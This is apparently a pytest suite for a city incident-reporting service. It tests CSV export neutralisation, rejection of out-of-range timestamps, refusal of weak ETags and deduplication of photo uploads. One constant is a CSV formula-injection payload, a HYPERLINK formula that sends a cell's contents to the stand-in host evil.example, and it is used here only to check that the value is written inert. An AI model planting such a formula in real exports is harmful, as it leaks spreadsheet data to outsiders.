"""What a hostile value does once it is stored or compared, on SQLite and on PostgreSQL: a reporter named
like a spreadsheet formula is written inert in the statistics' CSV, a time no calendar can convert is
refused by name, and a weakened ETag is told why it does not match."""
from __future__ import annotations

import csv
import io
import uuid
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
import requests

from harness.processes import wait_for
from tests.support.hostile import assert_problem, target_fixture
from tests.support.system import a_point_in_grid

target = target_fixture()
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"see")'


@pytest.fixture(scope="module")
def place(target):
    """A point inside a grid of the target's city: (grid id, lon, lat)."""
    return a_point_in_grid(target.urls["dispatch"], target.token("admin"), index=3)


def file_report(target, place, who: dict, **extra) -> requests.Response:
    grid, lon, lat = place
    return requests.post(target.url("intake", "/intake/v1/reports"), timeout=10, json={
        "category": "street_light", "description": "lamp out", "location": {"lon": lon, "lat": lat}, **extra},
        headers={**who, "Idempotency-Key": uuid.uuid4().hex})


def a_case(target, place) -> tuple[str, str]:
    """A case filed by headquarters at ``place``, read back from escalation: (id, its ETag)."""
    response = file_report(target, place, target.auth("command"))
    assert response.status_code == 201, response.text
    case_id = response.json()["id"]
    read = wait_for(lambda: (r := requests.get(target.url("escalation", f"/escalation/v1/cases/{case_id}"),
                                               headers=target.auth("command"), timeout=10)).status_code == 200 and r,
                    20, 0.1, "the case in escalation")
    return case_id, read.headers["ETag"]


# -- CSV formula injection ---------------------------------------------------------------------------------

def test_a_reporter_named_like_a_formula_is_written_inert_in_the_statistics_csv(target, place):
    reporter = target.auth("command", sub=FORMULA)
    assert file_report(target, place, reporter).status_code == 201
    today = datetime.now(ZoneInfo("Asia/Shanghai")).date()
    params = {"group_by": "reporter", "period": "day", "format": "csv", "lang": "en",
              "from": (today - timedelta(days=1)).isoformat(), "to": (today + timedelta(days=2)).isoformat()}

    def exported():
        answer = requests.get(target.url("escalation", "/escalation/v1/stats/closure-times"), params=params,
                              headers=target.auth("supervisor"), timeout=10)
        assert answer.status_code == 200, answer.text
        rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
        return [r for r in rows if FORMULA in r["reporter"]]

    [row] = wait_for(exported, 20, 0.2, "the reporter's statistics row")
    assert row["reporter"] == "'" + FORMULA
    assert row["opened"] == "1"


# -- times a client sends ------------------------------------------------------------------------------------

@pytest.mark.parametrize("client_time", ["0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00",
                                         "1969-12-31T23:59:59Z", "2100-01-01T00:00:00Z"])
def test_a_client_time_no_calendar_can_convert_is_refused_naming_it_and_stores_nothing(target, place, client_time):
    before = target.counts()

    response = file_report(target, place, target.auth("command"), client_time=client_time)

    problem = assert_problem(response, 422, "client_time")
    assert "between 1970-01-01 and 2100-01-01" in problem["errors"][0]["detail"]
    assert target.counts() == before


def test_a_client_time_from_a_phone_with_a_reset_clock_is_kept(target, place):
    response = file_report(target, place, target.auth("command"), client_time="1970-01-01T08:00:00+08:00")
    assert response.status_code == 201, response.text
    assert response.json()["client_time"] == "1970-01-01T00:00:00.000Z"


@pytest.mark.parametrize("dates", [("0001-01-01", "0001-06-01"), ("9999-01-01", "9999-12-31"),
                                   ("1969-06-01", "1970-02-01")])
def test_statistics_and_replay_dates_outside_1970_to_2100_are_refused_by_name(target, dates):
    start, end = dates
    stats = requests.get(target.url("escalation", "/escalation/v1/stats/closure-times"), timeout=10,
                         params={"group_by": "station", "from": start, "to": end}, headers=target.auth("supervisor"))
    assert_problem(stats, 422, "from")
    replay = requests.post(target.url("escalation", "/escalation/v1/stats/replay"), timeout=10,
                           json={"policy": "version = 1", "from": start, "to": end}, headers=target.auth("supervisor"))
    assert_problem(replay, 422, "from")


# -- If-Match ------------------------------------------------------------------------------------------------

def test_a_weak_etag_in_if_match_is_refused_saying_weak_etags_never_match_and_changes_nothing(target, place):
    case_id, etag = a_case(target, place)
    staff, weak = target.auth("command"), "W/" + etag
    url = target.url("escalation", f"/escalation/v1/cases/{case_id}/actions")

    response = requests.post(url, json={"action": "acknowledge"}, headers={**staff, "If-Match": weak}, timeout=10)

    problem = assert_problem(response, 412)
    assert "weak ETags are not accepted" in problem["detail"] and "changed" not in problem["detail"]
    assert requests.get(target.url("escalation", f"/escalation/v1/cases/{case_id}"), headers=staff,
                        timeout=10).headers["ETag"] == etag


# -- photos: one key, one photo, no metadata -----------------------------------------------------------------

def test_a_photo_sent_twice_with_one_key_is_stored_once_and_keeps_no_metadata(target, place):
    from tests.support.images import jpeg, metadata_in

    created = file_report(target, place, target.auth("command"))
    assert created.status_code == 201, created.text
    url = target.url("intake", f"/intake/v1/reports/{created.json()['id']}/photos")
    photo, headers = jpeg(640, 480, metadata=True), {**target.auth("command"), "Idempotency-Key": uuid.uuid4().hex}

    answers = [requests.post(url, files={"file": ("p.jpg", photo, "image/jpeg")}, headers=headers, timeout=30)
               for _ in range(2)]

    assert [a.status_code for a in answers] == [201, 201] and answers[0].json() == answers[1].json()
    assert len(requests.get(url, headers=target.auth("command"), timeout=10).json()) == 1
    for link in ("url", "thumbnail_url"):
        served = requests.get(target.url("intake", answers[0].json()[link]), headers=target.auth("command"), timeout=10)
        assert served.status_code == 200 and metadata_in(served.content) == []
    other = requests.post(url, files={"file": ("p.jpg", jpeg(64, 48), "image/jpeg")}, headers=headers, timeout=30)
    assert_problem(other, 422, "Idempotency-Key")
